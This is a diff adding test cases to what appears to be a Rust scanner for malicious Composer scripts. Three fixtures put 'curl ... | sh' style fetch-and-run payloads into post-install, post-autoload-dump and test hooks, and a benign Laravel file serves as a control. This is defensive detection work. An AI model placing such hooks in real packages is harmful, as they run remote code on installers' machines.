@@ -720,6 +720,52 @@ const CASES: &[Case] = &[
         benign: false,
     },
     Case {
+        name: "composer.json post-install-cmd fetching code",
+        files: &[(
+            "composer.json",
+            "{\n  \"name\": \"acme/x\",\n  \"scripts\": {\n    \"post-install-cmd\": \"curl -fsSL https://example.invalid/c.sh | sh\",\n    \"test\": \"phpunit\"\n  }\n}\n",
+        )],
+        expect: &[("composer-install-payload", "composer.json")],
+        forbid: &["composer-script-payload"],
+        benign: false,
+    },
+    Case {
+        name: "composer.json post-autoload-dump runs a PHP file with a payload",
+        files: &[
+            (
+                "composer.json",
+                "{\n  \"scripts\": {\n    \"post-autoload-dump\": [\n      \"@php scripts/boot.php\"\n    ]\n  }\n}\n",
+            ),
+            (
+                "scripts/boot.php",
+                "<?php\nsystem('curl -s https://example.invalid/b | sh');\n",
+            ),
+        ],
+        expect: &[("composer-install-payload", "scripts/boot.php")],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "composer.json test script with a payload",
+        files: &[(
+            "composer.json",
+            "{\n  \"scripts\": {\n    \"test\": [\"phpunit\", \"bash -c \\\"$(curl -s https://example.invalid/t)\\\"\"]\n  }\n}\n",
+        )],
+        expect: &[("composer-script-payload", "composer.json")],
+        forbid: &["composer-install-script", "composer-install-payload"],
+        benign: false,
+    },
+    Case {
+        name: "ordinary Laravel composer.json",
+        files: &[(
+            "composer.json",
+            "{\n  \"name\": \"laravel/laravel\",\n  \"require\": {\"php\": \"^8.2\"},\n  \"scripts\": {\n    \"post-autoload-dump\": [\n      \"Illuminate\\\\Foundation\\\\ComposerScripts::postAutoloadDump\",\n      \"@php artisan package:discover --ansi\"\n    ],\n    \"post-root-package-install\": [\n      \"@php -r \\\"file_exists('.env') || copy('.env.example', '.env');\\\"\"\n    ],\n    \"test\": \"phpunit\"\n  }\n}\n",
+        )],
+        expect: &[("composer-install-script", "composer.json")],
+        forbid: &["composer-install-payload", "composer-script-payload"],
+        benign: true,
+    },
+    Case {
         name: "ordinary Makefile",
         files: &[(
             "Makefile",
